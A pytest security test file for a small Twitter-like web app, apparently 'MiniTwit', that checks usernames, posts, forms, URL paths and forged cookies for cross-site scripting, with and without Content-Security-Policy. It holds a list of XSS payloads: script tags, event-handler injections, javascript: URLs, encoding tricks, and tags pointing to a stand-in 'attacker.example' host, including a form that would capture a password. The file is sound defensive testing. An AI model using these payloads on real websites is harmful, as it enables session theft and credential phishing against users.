# SPDX-License-Identifier: Apache-2.0
# Copyright the mod_minitwit contributors
"""Script in whatever a stranger may choose never runs: names, texts, e-mail addresses, flashes, addresses and what is asked for
in them, cookies. Each page is searched in three ways: nothing has run; the browser saw nothing that the Content-Security-Policy
had to stop; and the page has only elements and attributes that the templates write. The first and the last must hold when
the browser is told to forget the policy, too."""

import re
import urllib.parse

import pytest

RUN = "window.pwned=1,alert(1)"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}<\\ScRiPt>",
    f"</title><script>{RUN}</script>",
    f"</textarea></style></noscript></template><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<img src=x onerror={RUN}>",
    f"\"><img src=x onerror='{RUN}'>",
    f"'><svg/onload={RUN}>",
    f"\" onfocus=\"{RUN}\" autofocus x=\"",
    f"' onmouseover='{RUN}' style='position:fixed;inset:0' x='",
    f"` onclick=`{RUN}`",
    f"javascript:{RUN}//",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f"<a href=javascript:{RUN}>here</a>",
    f"<math><mtext><mglyph><style><img src=x onerror={RUN}>",
    "<base href='http://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
    "<link rel=stylesheet href='http://attacker.example/x.css'>",
    "<form action='http://attacker.example/'><input name=password></form>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62; &#x3c;b&#x3e; &amp;lt;i&amp;gt;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2028{RUN}\u2029",
    "{{{text}}} {{#messages}} {{> page}} ${7*7} <%= 7*7 %>",
    "%3Cscript%3E" + RUN + "%3C/script%3E",
)

# No control character may stand in a name, and no "/", which no address could reach.
NAMES = tuple(dict.fromkeys(re.sub(r"[\t\n/]", "", text) for text in SCRIPTS))

# What the templates write, and, for the addresses that httpd itself refuses, what its own pages have.
ELEMENTS = (
    "html head meta title link body a div header h1 h2 h3 ul li p form input label img strong span small em br "
    "hr address pre".split()
)
ATTRIBUTES = (
    "lang charset name content media rel href type class role aria-label id tabindex action method size value for src alt "
    "width height dir autocomplete autocapitalize spellcheck maxlength required autofocus aria-describedby aria-invalid "
    "enterkeyhint inputmode".split()
)

WATCH = """
window.alerts = [];
window.alert = window.confirm = window.prompt = text => { window.alerts.push(String(text)); };
window.stopped = [];
addEventListener('securitypolicyviolation', event => {
    window.stopped.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`);
});
"""

FOUND = """
const [elements, attributes] = arguments, found = [];
if (window.pwned !== undefined) found.push('a script has run');
for (const text of window.alerts || ['nobody watches']) found.push(`alert: ${text}`);
for (const text of window.stopped || []) found.push(`the policy had to stop ${text}`);
for (const element of document.querySelectorAll('*')) {
    if (!elements.includes(element.localName)) found.push(`<${element.localName}>: ${element.outerHTML}`);
    for (const {name, value} of element.attributes) {
        if (!attributes.includes(name)) found.push(`${name}=${value}`);
        if (['href', 'src', 'action'].includes(name) && new URL(value, document.baseURI).origin !== location.origin)
            found.push(`leads elsewhere: ${name}=${value}`);
    }
}
if (document.querySelector('meta[http-equiv]')) found.push('meta http-equiv');
return found;
"""


@pytest.fixture(params=[True, False], ids=["with the policy", "without the policy"])
def policy(request):
    return request.param


@pytest.fixture
def watched(chrome, policy):
    """A browser that tells what ran, and what did not because the policy forbids it."""
    script = chrome.devtools("Page.addScriptToEvaluateOnNewDocument", source=WATCH)["identifier"]
    chrome.devtools("Page.setBypassCSP", enabled=not policy)
    yield chrome
    chrome.devtools("Page.removeScriptToEvaluateOnNewDocument", identifier=script)
    # Pages that say no are said to have failed; anything else is left for the usual look into the console.
    complaints = [line for line in chrome.console() if "Failed to load resource: the server responded" not in line]
    assert complaints == []


def harmless(chrome, what):
    assert chrome.run(FOUND, ELEMENTS, ATTRIBUTES) == [], what


def quote(text):
    return urllib.parse.quote(text, safe="")


def test_names_texts_and_the_title(watched, api, people):
    people(*NAMES)
    for number, name in enumerate(NAMES):
        # So that the page of each holds other texts, and all of them come.
        for text in (SCRIPTS[number], SCRIPTS[-1 - number]):
            assert api.tweet(name, text).status_code == 204
    watched.open("/public")
    assert len(watched.messages) == 30
    harmless(watched, "/public")
    watched.open("/public?before=25")
    harmless(watched, "/public?before=25")
    for number, name in enumerate(NAMES):
        watched.open("/" + quote(name))
        assert watched.heading == f"{name}'s Timeline".replace("\u2028", " ").replace("\u2029", " ") or "\u2028" in name
        assert watched.run("return document.title").endswith("'s Timeline | MiniTwit")
        if "\u2028" not in name:
            assert watched.run("return document.querySelector('title').text") == f"{name}'s Timeline | MiniTwit"
        assert len(watched.messages) == 2
        harmless(watched, name)


def test_forms_flashes_and_the_navigation(watched, policy, database):
    for name in NAMES[policy::2]:
        email = name.replace("<script", "</title><script") + "@example.org"
        watched.open("/register")
        watched.fill(username=name, email=email, password="1", password2="2")
        watched.click("Sign Up")
        assert watched.texts("#username, #email") == [name, email]
        harmless(watched, f"refused registration: {name}")
    for name in (NAMES[2], NAMES[9]):
        watched.open("/register")
        watched.fill(username=name, email=f"{name}@example.org", password="secret", password2="secret")
        watched.click("Sign Up")
        harmless(watched, "sign in")
        watched.fill(username=name, password="wrong")
        watched.click("Sign In")
        harmless(watched, f"refused login: {name}")
        watched.fill(username=name, password="secret")
        watched.click("Sign In")
        assert watched.navigation[-1] == f"sign out [{name}]"
        harmless(watched, f"my timeline of {name}")
        for other in database.usernames():
            watched.open("/" + quote(other))
            harmless(watched, f"profile of {other}")
            if other != name:
                watched.click("Follow user")
                assert watched.flashes == [f'You are now following "{other}"']
                harmless(watched, f"flash: following {other}")
                watched.click("Unfollow user")
                assert watched.flashes == [f'You are no longer following "{other}"']
                harmless(watched, f"flash: unfollowed {other}")
        watched.click(f"sign out [{name}]")
    assert len(database.usernames()) == 2


def test_flashes_that_somebody_forged(watched, policy, httpd):
    """A page of a neighbouring host name may set cookies for this one."""

    def show(value):
        watched.devtools(
            "Network.setCookie", name="minitwit_flash", value=value, url=httpd.web_url, httpOnly=True, path="/"
        )
        watched.open("/public")
        harmless(watched, f"flash {value}")
        return watched.flashes

    for script in SCRIPTS[policy::2]:
        name = re.sub(r"[\t\n]", "", script)
        assert show("following:" + quote(name)) == [f'You are now following "{name}"'] or "\u2028" in name
        for value in (quote(script), "recorded" + quote(script), "recorded:" + quote(script), "logged-in;" + quote(script)):
            assert show(value.replace(";", "%3B")) == []
        # A cookie cannot hold these as they are.
        raw = re.sub(r'[\s;,"\\]|[^\x20-\x7e]', "", script)
        for value in (raw, f"following:{raw}", f"recorded{raw}"):
            assert [text for text in show(value) if "<" in text] == []


def test_addresses(watched, policy, people, api):
    people("alice")
    api.tweet("alice", "hello")
    for number, script in enumerate(SCRIPTS):
        paths = (
            f"/public?before={quote(script)}",
            f"/alice?before={quote(script)}&{quote(script)}={quote(script)}",
            f"/login?username={quote(script)}&error={quote(script)}&flash={quote(script)}",
            f"/public?{script.replace('#', '')}",
            f"/{quote(script)}",
            f"/alice{quote(script)}",
            f"/{quote(script)}/follow",
            f"/public/{quote(script)}",
            f"/static/{quote(script)}",
            f"/static/avatar/{quote(script)}",
            f"/login/{quote(script)}#{script}",
        )
        # In the two runs together each script meets each of the addresses.
        for path in paths[(number + policy) % 2 :: 2]:
            watched.open(path)
            harmless(watched, path)


def test_the_api_shown_in_a_browser(watched, httpd, people, api):
    """What it says is no page, whatever is asked for."""
    people(*NAMES[:3])
    for name in NAMES[:8]:
        for path in (f"/{quote(name)}", f"/msgs/{quote(name)}?no={quote(name)}", f"/latest?latest={quote(name)}"):
            watched.driver.get(httpd.api_url + path)
            assert watched.run("return document.contentType") == "application/json"
            assert watched.run("return [window.pwned, window.alerts]") == [None, []]


def test_the_watch_sees_what_it_is_there_for(chrome):
    """A page in which script does run, or is kept from it by the policy, fails these tests."""
    script = chrome.devtools("Page.addScriptToEvaluateOnNewDocument", source=WATCH)["identifier"]
    inject = (
        "const script = document.createElement('script'); script.textContent = arguments[0];"
        "document.body.append(script); document.body.setAttribute('onclick', arguments[0]);"
    )
    try:
        chrome.open("/public")
        chrome.run(inject, RUN)
        found = chrome.run(FOUND, ELEMENTS, ATTRIBUTES)
        assert [line.split()[0] for line in found] == ["the", "the", f"onclick={RUN}", "<script>:"], found
        assert all(line.startswith("the policy had to stop script-src") for line in found[:2]), found
        chrome.console()
        chrome.devtools("Page.setBypassCSP", enabled=True)
        chrome.open("/public")
        chrome.run(inject, RUN)
        found = chrome.run(FOUND, ELEMENTS, ATTRIBUTES)
        assert found[:2] == ["a script has run", "alert: 1"]
        chrome.console()
    finally:
        chrome.devtools("Page.removeScriptToEvaluateOnNewDocument", identifier=script)
